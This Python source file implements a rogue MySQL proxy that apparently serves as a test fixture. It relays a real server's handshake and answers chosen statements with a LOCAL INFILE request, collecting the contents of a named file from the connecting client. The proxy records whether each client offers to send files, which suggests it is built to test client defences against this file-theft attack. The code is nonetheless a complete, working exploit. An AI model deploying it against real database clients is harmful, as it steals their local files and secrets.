"""A MySQL server that has been taken over: it answers a statement with the request for a file of its client.

It stands as a proxy before a real server, so that everything up to that statement is as the client expects it.
"""

from __future__ import annotations

import socket
import struct
from collections.abc import Callable
from contextlib import suppress
from threading import Thread
from types import TracebackType
from typing import Self

from sqlalchemy import make_url

LOCAL_FILES = 0x80
"""The client's capability to send files."""

_COM_QUERY = 3
_FILE_REQUEST = b"\xfb"
_OK = b"\x00\x00\x00\x02\x00\x00\x00"


class RogueMySQL:
    """The proxy, as a context manager.

    :param server: URL of the real server's database
    :param file: what it asks for
    :param when: by the text of a statement, whether that is answered with the request
    :ivar stolen: what clients sent of files
    :ivar asked: the statements that were answered with the request
    :ivar offers: for each connection, whether the client said that it can send files
    """

    def __init__(self, server: str, file: str, when: Callable[[str], bool] = lambda statement: True) -> None:
        self._server = make_url(server)
        self._file = file
        self._when = when
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.stolen = b""
        self.asked: list[str] = []
        self.offers: list[bool] = []

    @property
    def url(self) -> str:
        """URL of the database through the proxy."""
        return self._server.set(port=self._listener.getsockname()[1]).render_as_string(hide_password=False)

    def __enter__(self) -> Self:
        Thread(target=self._accept, daemon=True).start()
        return self

    def __exit__(self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None) -> None:
        # Closing alone would leave the thread waiting for one more connection.
        self._listener.shutdown(socket.SHUT_RDWR)
        self._listener.close()

    def _accept(self) -> None:
        with suppress(OSError):
            while True:
                client, _ = self._listener.accept()
                Thread(target=self._serve, args=(client,), daemon=True).start()

    def _serve(self, client: socket.socket) -> None:
        with client, socket.create_connection((self._server.host or "", self._server.port or 0)) as server, suppress(OSError):
            _send(client, *_receive(server))
            number, answer = _receive(client)
            self.offers.append(bool(struct.unpack("<I", answer[:4])[0] & LOCAL_FILES))
            _send(server, number, answer)
            Thread(target=_copy, args=(server, client), daemon=True).start()
            following: tuple[int, bytes] | None = None
            while True:
                number, packet = following or _receive(client)
                following = None
                statement = packet[1:].decode(errors="replace") if packet[:1] == bytes([_COM_QUERY]) else None
                if number == 0 and statement is not None and self._when(statement):
                    self.asked.append(statement)
                    following = self._steal(client)
                else:
                    _send(server, number, packet)

    def _steal(self, client: socket.socket) -> tuple[int, bytes] | None:
        """Ask for the file, and return the next statement of a client that passes over it."""
        _send(client, 1, _FILE_REQUEST + self._file.encode())
        while True:
            number, packet = _receive(client)
            if number == 0:
                return number, packet
            if not packet:
                _send(client, (number + 1) % 256, _OK)
                return None
            self.stolen += packet


def _copy(source: socket.socket, target: socket.socket) -> None:
    with suppress(OSError):
        while data := source.recv(65536):
            target.sendall(data)
        target.shutdown(socket.SHUT_RDWR)


def _receive(connection: socket.socket) -> tuple[int, bytes]:
    header = _exactly(connection, 4)
    return header[3], _exactly(connection, int.from_bytes(header[:3], "little"))


def _send(connection: socket.socket, number: int, packet: bytes) -> None:
    connection.sendall(len(packet).to_bytes(3, "little") + bytes([number]) + packet)


def _exactly(connection: socket.socket, size: int) -> bytes:
    data = b""
    while len(data) < size:
        more = connection.recv(size - len(data))
        if not more:
            raise OSError("the connection ended")
        data += more
    return data
